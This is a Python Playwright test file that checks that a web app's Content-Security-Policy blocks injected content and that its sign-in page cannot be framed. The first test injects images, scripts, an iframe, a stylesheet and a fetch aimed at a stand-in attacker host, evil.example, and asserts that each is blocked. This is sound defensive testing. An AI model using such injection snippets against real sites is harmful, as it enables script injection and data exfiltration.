"""The Content-Security-Policy blocks what it must. All other browser tests fail if it blocks what pages need."""

from playwright.sync_api import Browser, expect

from tests.browser.conftest import wait_until_drawn
from tests.support import make
from tests.support.chromium import POLICY

INJECT_SCRIPT = """() => {
    const add = (kind, fields) => document.body.append(Object.assign(document.createElement(kind), fields));
    add('img', {src: 'https://evil.example/pixel.png'});
    add('script', {src: 'https://evil.example/script.js'});
    add('script', {textContent: 'window.ran = true'});
    add('iframe', {src: 'https://evil.example/frame'});
    add('link', {rel: 'stylesheet', href: 'https://evil.example/style.css'});
    fetch('https://evil.example/out').catch(() => {});
}"""
# Streamlit uses WebAssembly for large numbers where allowed, and works without.
EXPECTED_VIOLATIONS = ["script-src wasm-eval"]
WATCH_SCRIPT = """document.addEventListener('securitypolicyviolation', violation => {
    (window.blocked ||= []).push(`${violation.effectiveDirective} ${violation.blockedURI}`);
})"""


def test_injected_content_neither_loads_nor_runs(chromium: Browser, live_server: str) -> None:
    person = make.staff(role="admin", password=make.PASSWORD)
    requested_urls: list[str] = []
    console: list[str] = []
    with chromium.new_context() as context:
        page = context.new_page()
        page.add_init_script(WATCH_SCRIPT)
        page.on("requestfinished", lambda request: requested_urls.append(request.url))
        page.on("console", lambda message: console.append(message.text))
        credentials = {"email": person.email, "password": make.PASSWORD}
        assert context.request.post(f"{live_server}/session/sign-in", form=credentials).ok
        page.goto(f"{live_server}/events")
        wait_until_drawn(page)
        assert page.evaluate("window.blocked") == EXPECTED_VIOLATIONS

        page.evaluate(INJECT_SCRIPT)
        page.wait_for_function("() => window.blocked.length >= 7")

        assert sorted(page.evaluate("window.blocked.slice(1)")) == [
            "connect-src https://evil.example/out",
            "frame-src https://evil.example",
            "img-src https://evil.example/pixel.png",
            "script-src-elem https://evil.example/script.js",
            "script-src-elem inline",
            "style-src-elem https://evil.example/style.css",
        ]
        assert page.evaluate("window.ran") is None
        assert [url for url in requested_urls if "evil" in url] == []
        assert [text for text in console if POLICY in text] != []  # which is what the other tests check for


def test_page_cannot_be_framed(chromium: Browser, live_server: str) -> None:
    with chromium.new_context() as context:
        page = context.new_page()
        page.set_content(f'<iframe src="{live_server}/session/sign-in"></iframe><p>Other site</p>')
        expect(page.get_by_text("Other site")).to_be_visible()
        page.wait_for_function("() => document.readyState === 'complete'")
        expect(page.frame_locator("iframe").get_by_role("button", name="Sign in")).to_have_count(0)
        assert page.frames[1].url.startswith("chrome-error:")
